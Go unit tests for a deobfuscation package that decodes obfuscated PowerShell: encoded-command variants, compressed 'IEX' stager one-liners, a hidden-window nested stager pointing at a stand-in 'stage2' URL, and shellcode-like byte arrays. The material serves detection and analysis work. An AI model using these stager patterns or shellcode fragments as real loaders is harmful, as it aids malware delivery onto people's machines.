package unpack_test

import (
	"encoding/hex"
	"errors"
	"strings"
	"testing"

	"github.com/hunchsec/hunch/unpack"
)

func TestPowerShellEncodedCommand(t *testing.T) {
	enc := b64(utf16le(script))
	short := b64(utf16le("calc")) // 12 characters: below MinLen, found only by context
	tests := []struct {
		name string
		in   string
		want want
	}{
		{"-e", "powershell -e " + enc, want{"base64>utf16le", "text", script}},
		{"-ec", "powershell -ec " + enc, want{"base64>utf16le", "text", script}},
		{"-en", "powershell -en " + enc, want{"base64>utf16le", "text", script}},
		{"-enc", "powershell -enc " + enc, want{"base64>utf16le", "text", script}},
		{"-Enc", "powershell -Enc " + enc, want{"base64>utf16le", "text", script}},
		{"-ENCOD", "powershell -ENCOD " + enc, want{"base64>utf16le", "text", script}},
		{"-encodedcommand", "powershell -encodedcommand " + enc, want{"base64>utf16le", "text", script}},
		{"-EncodedCommand", "powershell.exe -NoP -NonI -W Hidden -EncodedCommand " + enc, want{"base64>utf16le", "text", script}},
		{"/enc", "powershell /enc " + enc, want{"base64>utf16le", "text", script}},
		{"/EncodedCommand quoted", `powershell /EncodedCommand "` + enc + `"`, want{"base64>utf16le", "text", script}},
		{"en dash", "powershell –enc " + enc, want{"base64>utf16le", "text", script}},
		{"em dash", "powershell —ec " + enc, want{"base64>utf16le", "text", script}},
		{"single quotes", "pwsh -e '" + enc + "'", want{"base64>utf16le", "text", script}},
		{"short -enc argument", "powershell -enc " + short, want{"base64>utf16le", "text", "calc"}},
		{"short -e argument with en dash", "powershell –e " + short, want{"base64>utf16le", "text", "calc"}},
		{"short argument of another parameter", "powershell -ep " + short, want{}},
		{"short argument glued to a word", "powershell -exec" + short, want{}},
		{"short run without a parameter", "powershell " + short, want{}},
		{"-enc whose bytes are non-Latin UTF-16LE", "powershell -enc " + b64(utf16le("Write-Host 'Привет мир'")), want{"base64>utf16le", "text", "Write-Host 'Привет мир'"}},
		{"-e whose argument is UTF-8 text", "grep -e " + b64([]byte("plain utf-8 pattern text here")), want{"base64", "text", "plain utf-8 pattern text here"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := unpack.Unpack(tt.in)
			checkOne(t, r, tt.want)
			for _, b := range r.Blobs {
				if strings.ContainsRune(b.Text, 0) {
					t.Errorf("text has NULs: %q", b.Text)
				}
			}
		})
	}
}

func TestPowerShellFromBase64String(t *testing.T) {
	shellcode := []byte{0xfc, 0xe8, 0x82, 0x00, 0x00, 0x00, 0x60, 0x89, 0xe5, 0x31, 0xc0, 0x64, 0x8b, 0x50, 0x30, 0x8b, 0x52, 0x0c, 0x8b, 0x52, 0x14}
	gzScript := b64(gz(t, []byte(script)))
	defScript := b64(deflated(t, []byte(script)))
	tests := []struct {
		name string
		in   string
		want want
	}{
		{"Convert single quotes, shellcode", "[Byte[]]$b = [Convert]::FromBase64String('" + b64(shellcode) + "')", want{"base64", "binary", ""}},
		{"System.Convert double quotes", `$x=[System.Convert]::FromBase64String("` + b64(shellcode) + `")`, want{"base64", "binary", ""}},
		{"short literal", "[convert]::frombase64string('" + b64([]byte{0xfc, 0xe8, 0x82, 0x00, 0x00, 0x01}) + "')", want{"base64", "binary", ""}},
		{"doubled quotes inside a command", "-c \"[System.Convert]::FromBase64String(''" + b64(shellcode) + "'')\"", want{"base64", "binary", ""}},
		{"GzipStream stager", "IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream(,[Convert]::FromBase64String('" + gzScript + "'))),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()", want{"base64>gzip", "text", script}},
		{"DeflateStream stager", "iex(New-Object IO.StreamReader((New-Object System.IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('" + defScript + "'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()", want{"base64>deflate", "text", script}},
		{"DeflateStream with the base64 in a variable", "$s='" + defScript + "';$d=New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String($s),[IO.Compression.CompressionMode]::Decompress)", want{"base64>deflate", "text", script}},
		{"raw deflate without context is not guessed", "$s='" + defScript + "'", want{}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := unpack.Unpack(tt.in)
			checkOne(t, r, tt.want)
			if tt.want.kind == "binary" {
				b := r.Blobs[0]
				if b.Text != "" || b.SHA256 == "" || b.Preview == "" || b.Size == 0 {
					t.Errorf("binary blob: text %q sha256 %q preview %q size %d", b.Text, b.SHA256, b.Preview, b.Size)
				}
				if strings.Contains(r.FullDecoded, b.Preview) {
					t.Error("FullDecoded holds a hex dump")
				}
			}
		})
	}
}

// TestPowerShellNested decodes -enc, then a gzip stager inside the script, then the URL's
// base64 inside that.
func TestPowerShellNested(t *testing.T) {
	inner := "$u=[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('" + b64([]byte("http://198.51.100.23:8080/stage2")) + "'));IEX $u"
	stager := "IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream(,[Convert]::FromBase64String('" + b64(gz(t, []byte(inner))) + "'))),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()"
	in := `"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -nop -w hidden -enc ` + b64(utf16le(stager))
	r := unpack.Unpack(in)
	if len(r.Blobs) != 3 {
		t.Fatalf("got %d blobs: %+v", len(r.Blobs), r.Blobs)
	}
	wants := []struct {
		chain  string
		depth  int
		parent int
		text   string
	}{
		{"base64>utf16le", 1, -1, stager},
		{"base64>gzip", 2, 0, inner},
		{"base64", 3, 1, "http://198.51.100.23:8080/stage2"},
	}
	for i, w := range wants {
		b := r.Blobs[i]
		if b.Encoding() != w.chain || b.Depth != w.depth || b.Parent != w.parent || b.Text != w.text {
			t.Errorf("blob %d: %s depth %d parent %d %q", i, b.Encoding(), b.Depth, b.Parent, trunc(b.Text, 60))
		}
		parent := in
		if b.Parent >= 0 {
			parent = r.Blobs[b.Parent].Text
		}
		if b.Start < 0 || b.End > len(parent) || b.Start >= b.End {
			t.Errorf("blob %d: span %d..%d outside its parent (%d bytes)", i, b.Start, b.End, len(parent))
		}
	}
	want := `"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -nop -w hidden -enc ` +
		strings.Replace(stager, b64(gz(t, []byte(inner))), strings.Replace(inner, b64([]byte("http://198.51.100.23:8080/stage2")), "http://198.51.100.23:8080/stage2", 1), 1)
	if r.FullDecoded != want {
		t.Errorf("FullDecoded =\n%q\nwant\n%q", r.FullDecoded, want)
	}
}

// A damaged -EncodedCommand argument (a character lost in transit) still shows the script
// up to the damage, marked corrupt.
func TestPowerShellDamagedArgument(t *testing.T) {
	enc := b64(utf16le(script))
	damaged := enc[:100] + enc[101:]
	r := unpack.Unpack("powershell -nop -enc " + damaged)
	if len(r.Blobs) != 1 {
		t.Fatalf("got %d blobs", len(r.Blobs))
	}
	b := r.Blobs[0]
	if b.Kind != "text" || !errors.Is(b.Err, unpack.ErrCorrupt) || len(b.Text) < 16 || !strings.HasPrefix(script, b.Text) || b.Encoding() != "base64>utf16le" {
		t.Errorf("blob %s %s %q %v", b.Encoding(), b.Kind, b.Text, b.Err)
	}
	// Without PowerShell context the same bytes are no blob.
	if r := unpack.Unpack("data " + damaged); len(r.Blobs) != 0 {
		t.Errorf("without context: %+v", r.Blobs)
	}
}

func TestHexByteLists(t *testing.T) {
	sc := []byte{0xfc, 0xe8, 0x89, 0x00, 0x00, 0x00, 0x60, 0x89, 0xe5, 0x31, 0xd2, 0x64, 0x8b, 0x52, 0x30, 0x8b, 0x52, 0x0c}
	list := func(sep string) string {
		parts := make([]string, len(sc))
		for i, c := range sc {
			parts[i] = "0x" + hex.EncodeToString([]byte{c})
		}
		return strings.Join(parts, sep)
	}
	var esc strings.Builder
	for _, c := range sc {
		esc.WriteString(`\x` + hex.EncodeToString([]byte{c}))
	}
	tests := []struct {
		name, in, list string
	}{
		{"PowerShell byte array", "[Byte[]]$sc = " + list(",") + ";$size = 0x1000", list(",")},
		{"C array with spaces", "unsigned char buf[] = { " + list(", ") + " };", list(", ")},
		{"escaped string", `buf = "` + esc.String() + `"`, esc.String()},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := unpack.Unpack(tt.in)
			if len(r.Blobs) != 1 {
				t.Fatalf("got %d blobs", len(r.Blobs))
			}
			b := r.Blobs[0]
			if b.Encoding() != "hexbytes" || b.Kind != "binary" || b.Size != len(sc) || b.Preview != hex.EncodeToString(sc) || tt.in[b.Start:b.End] != tt.list {
				t.Errorf("blob %s %s size %d preview %s span %q", b.Encoding(), b.Kind, b.Size, b.Preview, tt.in[b.Start:b.End])
			}
			if r.FullDecoded != tt.in {
				t.Errorf("FullDecoded changed: %q", r.FullDecoded)
			}
		})
	}
	for _, in := range []string{
		"flags 0x1000, 0x2000, 0x4000, 0x8000, 0x10000, 0x20000, 0x40000, 0x80000, 0x100000, 0x200000, 0x400000, 0x800000, 0x1000000, 0x2000000, 0x4000000, 0x8000000",
		"short 0xfc,0xe8,0x89,0x00,0x00,0x00,0x60,0x89",
		"registers 10x20 0x1 0x2",
	} {
		if r := unpack.Unpack(in); len(r.Blobs) != 0 {
			t.Errorf("%q: %d blobs", in, len(r.Blobs))
		}
	}
	// Shellcode inside an -EncodedCommand script is a child blob of the script.
	in := "powershell -enc " + b64(utf16le("[Byte[]]$z = "+list(",")+";"))
	r := unpack.Unpack(in)
	if len(r.Blobs) != 2 || r.Blobs[1].Parent != 0 || r.Blobs[1].Encoding() != "hexbytes" || r.Blobs[1].Depth != 2 {
		t.Errorf("nested: %+v", r.Blobs)
	}
}
